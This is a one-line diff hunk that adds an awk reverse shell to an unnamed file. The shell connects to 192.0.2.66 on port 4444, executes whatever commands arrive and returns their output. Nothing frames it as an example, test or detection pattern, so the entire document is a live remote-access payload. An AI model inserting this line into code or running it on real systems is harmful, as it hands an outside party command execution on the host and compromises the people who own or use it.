@@ -1,0 +1,1 @@
+awk 'BEGIN {s = "/inet/tcp/0/192.0.2.66/4444"; while(1) { do{ printf "$ " |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null
